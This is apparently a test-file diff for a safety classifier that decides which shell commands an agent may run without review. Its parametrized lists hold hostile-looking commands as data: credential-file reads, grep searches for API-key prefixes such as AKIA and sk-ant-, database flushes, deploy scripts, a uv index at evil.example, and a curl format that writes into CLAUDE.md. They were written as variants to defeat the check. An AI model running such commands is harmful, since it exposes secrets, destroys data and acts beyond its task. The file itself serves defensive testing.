@@ -34,7 +34,10 @@ SAMPLES = {
     "go-package": "./...", "go-packages": "./pkg/...,./cmd", "go-local": ".", "go-list-operand": "all",
     "git-operand": "HEAD~1", "search-pattern": "def main", "sed-script": "1,20p", "jq-filter": ".name",
     "local-url": "http://localhost:8000/health", "curl-text": "Accept: application/json", "build-output": "build/",
-    "date-format": "+%Y-%m-%d",
+    "date-format": "+%Y-%m-%d", "project-name": "tests", "project-names": "py311,lint",
+    "project-expression": "tests and not slow", "project-script": "scripts/build.js", "project-folder": "docs",
+    "go-program": "./cmd/app", "test-label": "tests.test_x",
+    "curl-header": "Accept: application/json", "curl-format": "%{http_code}", "search-glob": "*.py",
 }
 
 
@@ -83,7 +86,8 @@ def places() -> Iterator[Place]:
             yield from walk(f"{prefix} {sample(fallback.first or fallback.positional or 'word')}", fallback, depth + 1)
 
     for table in {id(t): t for t in TABLES.programs.values()}.values():
-        prefix = table.names[0] if table.names else f"python -m {table.modules[0]}"
+        prefix = table.names[0] if table.names else f"python -m {table.modules[0]}" if table.modules else \
+            f"python {table.files[0]}"
         yield from walk(prefix, table)
     for name, table in TABLES.wrappers.items():
         yield Place(" ".join(filter(None, [name, table.command])), table)
@@ -328,3 +332,187 @@ def test_the_reader_keeps_each_wrapper_with_its_words() -> None:
     assert command.wrapped == [["timeout", "60"], ["uv", "run", "--python", "3.11", "--with=git+https://x/y.git"]]
     (command,) = parse("uv run --index https://evil.example/simple pytest").pipelines[0]
     assert command.argv == ["pytest"]  # the index URL is the option's value, not the program
+
+
+# -- issue 23 §3, second round: what a blind attacker found ordinary, and the variants written for it ----
+#: 1. Names that say they act beyond the checkout, wherever the project defines a name the line runs.
+OUTWARD_NAMES = [
+    "tox -e release", "tox -e publish", "tox -e py311,upload", "nox -s release", "./deploy.sh", "scripts/deploy.sh",
+    "bin/release", "python deploy.py --prod", "cargo run --bin deploy", "make -f deploy.mk", "make -C deploy all",
+    # variants
+    "tox r -e release", "tox run-parallel -e py311,publish", "python -m tox -e release", "tox -m release",
+    "tox -f upload", "tox -e ALL", "tox -e py311,all", "nox --session=publish-3.11", "nox --sessions release",
+    "nox -k 'release or tests'", "nox -t deploy", "nox", "nox -R", "./scripts/release/build.sh",
+    "python scripts/upload_wheels.py", "python3 -u ./tools/publish.py", "uv run ./deploy.py", "uv run python deploy.py",
+    "node scripts/deploy.js", "tsx scripts/publish.ts", "cargo run --example upload", "cargo run -p deploy",
+    "cargo run -- deploy", "go run ./cmd/deploy", "go run ./cmd/release/...", "make --file=release.mk test",
+    "make --directory=deploy", "make -Cdeploy", "ninja -C build install", "meson compile -C build install",
+    "cmake --build build --target install", "./run.sh deploy", "bin/rails db:drop", "./manage.sh publish --now",
+    "mvn -f deploy/pom.xml test", "./gradlew -p deploy build", "npm test -- deploy-prod",
+]
+
+
+@pytest.mark.parametrize("command", OUTWARD_NAMES)
+def test_every_name_the_project_defines_is_checked_for_acting_beyond_the_checkout(command: str) -> None:
+    reasons = why_not_ordinary(command)
+    assert reasons, command
+
+
+@pytest.mark.parametrize("command", [
+    "tox -e py311,lint", "tox -m tests", "nox -s tests", "nox -s tests-3.11 -- -x", "nox -l", "nox -k 'tests and not slow'",
+    "./scripts/build.sh", "scripts/lint.sh --fix", "cargo run --bin server", "cargo run -p app -- --port 3000",
+    "make -C docs html", "make -f ci.mk test", "go run ./cmd/app", "ninja -C build", "cmake --build build --target tests",
+    "python scripts/check_links.py docs", "./run.sh tests",
+])
+def test_names_that_stay_in_the_checkout_are_still_ordinary(command: str) -> None:
+    assert why_not_ordinary(command) == []
+
+
+def test_the_reason_names_the_word() -> None:
+    assert "release" in why_not_ordinary("tox -e py311,release")[0]
+    assert "whose name says it acts beyond the checkout" in why_not_ordinary("scripts/deploy.sh")[0]
+    assert "every session of the noxfile" in why_not_ordinary("nox")[0]
+    assert "every environment the project defines" in why_not_ordinary("tox -e ALL")[0]
+
+
+#: 2. Django, setup.py and installs: closed tables of commands, and nothing installed outside the project's environment.
+PROJECT_TOOLS = [
+    "python manage.py flush --noinput", "python manage.py dbshell", "python manage.py createsuperuser",
+    "python manage.py runserver 0.0.0.0:8000", "python setup.py sdist upload", "python setup.py install", "mvn install",
+    "uv pip install --system requests", "pip install --user requests", "pip uninstall -y pip", "pip uninstall -y setuptools",
+    # variants
+    "./manage.py migrate", "python3 src/manage.py loaddata fixtures/users.json", "python manage.py diffsettings",
+    "python manage.py collectstatic --noinput", "python manage.py makemigrations", "python manage.py makemigrations polls",
+    "python manage.py sendtestemail a@b.c", "python manage.py test --testrunner=evil.Runner",
+    "python manage.py test antigravity", "python -m unittest antigravity", "python -m unittest this",
+    "python manage.py shell_plus", "python manage.py check --database default", "python setup.py develop",
+    "python setup.py bdist_wheel upload", "python setup.py register", "python setup.py test -s antigravity",
+    "./setup.py install --user", "mvn -q clean install", "python -m pip install --user -e .", "pipenv install --system",
+    "uv pip uninstall requests", "uv remove requests", "python -m pip uninstall -y pytest",
+]
+#: Refused before this change too (django-admin was no table, -b and --pythonpath point outside): kept as guards,
+#: since the tables that now read these programs must not let them in.
+GUARDS = ["django-admin shell -c 'import os'", "python -m django dumpdata auth.user",
+          "python manage.py test --pythonpath=/tmp/x", "python setup.py build_ext -b /tmp/x", "mvn deploy"]
+
+
+@pytest.mark.parametrize("command", GUARDS)
+def test_the_new_tables_keep_what_was_refused_refused(command: str) -> None:
+    assert why_not_ordinary(command), command
+
+
+@pytest.mark.parametrize("command", PROJECT_TOOLS)
+def test_project_tools_run_only_their_looks_and_tests(command: str) -> None:
+    assert why_not_ordinary(command), command
+
+
+@pytest.mark.parametrize("command", [
+    "python manage.py test", "python manage.py test polls.tests.test_models --parallel 1 --keepdb",
+    "./manage.py check --deploy --fail-level WARNING", "python manage.py makemigrations --check --dry-run",
+    "python manage.py showmigrations --plan", "python manage.py sqlmigrate polls 0001", "django-admin --version",
+    "python -m django test tests.test_views -v 2", "python manage.py test test.test_api", "python -m unittest tests.test_x",
+    "python setup.py build_ext --inplace", "python setup.py test", "python setup.py egg_info", "python setup.py --version",
+    "python setup.py sdist -d dist", "python setup.py check -m -s", "mvn -q test", "pip install requests",
+    "uv pip install -e .", "pip list --user",
+])
+def test_what_project_tools_may_do_is_still_ordinary(command: str) -> None:
+    assert why_not_ordinary(command) == []
+
+
+def test_project_tool_reasons_name_the_command() -> None:
+    assert "django flush is not one of the django commands" in why_not_ordinary("python manage.py flush --noinput")[0]
+    assert "writes migration files" in why_not_ordinary("python manage.py makemigrations")[0]
+    assert "Python's own library" in why_not_ordinary("python -m unittest antigravity")[0]
+    assert "--user is not one of the" in why_not_ordinary("pip install --user requests")[0]
+
+
+#: 3. A local request is a look: GET or HEAD, no body, nothing written by its format.
+LOCAL_REQUESTS = [
+    "curl -w '%output{/path}' http://localhost:8000/", "curl -X DELETE http://127.0.0.1:8001/api/items/1",
+    # variants
+    "curl -s -o /dev/null -w '%{http_code}%output{>>CLAUDE.md}x' http://localhost:8000/",
+    "curl --write-out=%output{notes.txt}%{url} http://localhost/", "curl -X POST http://localhost:8000/api/reset",
+    "curl --request PUT http://localhost:8000/api/x", "curl -XPATCH http://localhost/api/x",
+    "curl --request=OPTIONS http://localhost/", "curl -d 'a=1' http://localhost:8000/api/login",
+    "curl --data '{}' http://localhost:8000/api", "curl --data-raw x http://localhost/", "curl --json '{}' http://localhost/",
+    "curl -H 'X-HTTP-Method-Override: DELETE' http://localhost:8000/api/items/1",
+    "curl -H 'x-method-override: PUT' http://localhost/", "curl --header='X-HTTP-Method: DELETE' http://localhost/",
+]
+
+
+@pytest.mark.parametrize("command", LOCAL_REQUESTS)
+def test_a_local_request_that_changes_or_writes_something_is_not_ordinary(command: str) -> None:
+    assert why_not_ordinary(command), command
+
+
+@pytest.mark.parametrize("command", [
+    "curl -sS -o /dev/null -w '%{http_code}\\n' http://localhost:8000/health", "curl -X GET http://127.0.0.1:8000/api",
+    "curl -I http://localhost:3000/", "curl -X HEAD http://localhost/", "curl -H 'Accept: application/json' localhost:9090/x",
+])
+def test_a_local_look_is_still_ordinary(command: str) -> None:
+    assert why_not_ordinary(command) == []
+
+
+#: 4. Credential files and .git, through any glob that could match them; searches for keys; links followed out.
+SECRET_READS = [
+    "cat .gi?/config", "cat .envrc", "cat secrets.json", "cat *.pem", "git show HEAD:.envrc", "grep -r AKIA .",
+    "rg 'xoxb-' .", "grep -R --include=*.env x .", "rg -L x", "rg --follow x", "grep -R x .",
+    # variants: globs into .git and out of the checkout
+    "cat .[g]it/HEAD", "ls .gi?", "cat .GIT/config", "head .Git/HEAD", "cat .*/config", "cat .?/x",
+    # secret files by name, in any case, and globs that could match one
+    "cat .Envrc", "cat config/secrets.yml", "cat client_secret_1234.json", "cat certs/server.key", "nl keystore.jks",
+    "cat vault.kdbx", "cat terraform.tfstate", "cat *", "cat config/*", "wc -c *.key", "sed -n '1,5p' *.p12",
+    "cat .[e]nvrc", "jq . *.json", "git show HEAD:config/credentials.json", "git diff HEAD~1 -- '*.pem'",
+    "git cat-file -p HEAD:.envrc",
+    # searches for keys by the opening of their token, however the pattern is spelled
+    "grep -rn 'A[K]IA' .", "grep -rE '\\bAKIA[0-9A-Z]{16}' src", "rg -i akia", "rg -e 'ghp_' src",
+    "git grep 'sk-ant-'", "git log -p -S AKIA", "git log -G 'xox[bp]-'", "grep -rn 'glpat-' .", "grep -rn 'A.IA' .",
+    "grep -rn 'eyJhbGciOi' .", "rg '(ASIA|AKIA)[A-Z0-9]{16}'", "grep -rn 'hf_[A-Za-z0-9]{34}' .",
+    # a pattern the line does not show
+    "grep -r -f patterns.txt .", "rg -f pats.txt", "git grep -f pats.txt", "grep --file=pats.txt -r .",
+    # searches that select credential files
+    "rg -g '*.pem' x .", "rg --iglob '*.KEY' x", "grep -r --include='*' x .", "rg -g 'config/secrets.*' x",
+    # links followed out of the checkout
+    "grep --dereference-recursive x .", "fd -L x", "fd --follow x",
+]
+
+
+@pytest.mark.parametrize("command", SECRET_READS)
+def test_credential_files_and_searches_for_keys_are_not_ordinary(command: str) -> None:
+    assert why_not_ordinary(command), command
+
+
+@pytest.mark.parametrize("command", [
+    "cat src/*.py", "ls src", "wc -l src/*.ts", "cat .gitignore", "ls .github/workflows", "cat docs/*.md",
+    "grep -rn 'def main' src", "rg -g '*.py' TODO", "rg -g '!*.pem' TODO", "grep -rn hf_hub_download .",
+    "grep -rn npm_config_cache .", "grep -rn sk-learn docs", "git grep -n ext_modules", "grep -r --include='*.py' x .",
+    "git show HEAD~1:src/app.py", "git log -S 'def main' --oneline", "rg -n 'task-runner' .",
+])
+def test_looks_that_cannot_reach_a_credential_file_are_still_ordinary(command: str) -> None:
+    assert why_not_ordinary(command) == []
+
+
+def test_the_reasons_say_which_secret_a_glob_or_a_search_could_reach() -> None:
+    assert "points into .git" in why_not_ordinary("cat .gi?/config")[0]
+    assert "could match *.pem" in why_not_ordinary("cat *.pem")[0]
+    assert "tokens that start AKIA" in why_not_ordinary("grep -r AKIA .")[0]
+    assert "searches credential files" in why_not_ordinary("rg -g '*.pem' x .")[0]
+
+
+def test_the_token_prefixes_are_redactions_own() -> None:
+    """The safety rules sit below redaction and read its prefixes as data: the list must be what the rules give."""
+    from pipeline.redact.prefixes import provider_prefixes
+    from pipeline.safety.credentials import PREFIXES
+
+    assert list(PREFIXES) == provider_prefixes(), "run: python -m pipeline.redact.prefixes --write"
+    assert {"AKIA", "xoxb-", "ghp_", "glpat-", "sk-ant-", "hf_", "AIza"} <= set(PREFIXES)
+    assert not {"http", "https://", "sk", "pat", "API-"} & set(PREFIXES)
+
+
+def test_no_credential_file_pattern_matches_a_source_file() -> None:
+    """Else `cat src/*.py` would be a glob that could reach a secret, and no look at code would be ordinary."""
+    from pipeline.safety.credentials import FILES, could_match
+
+    for source in ("*.py", "*.pyi", "*.js", "*.ts", "*.tsx", "*.go", "*.rs", "*.rb", "*.java", "*.c", "*.h",
+                   "*.md", "*.rst", "*.txt", "*.html", "*.css", "*.sh", "*.cfg", "*.ini", "*.lock"):
+        assert not [f for f in FILES if could_match(source, f)], source
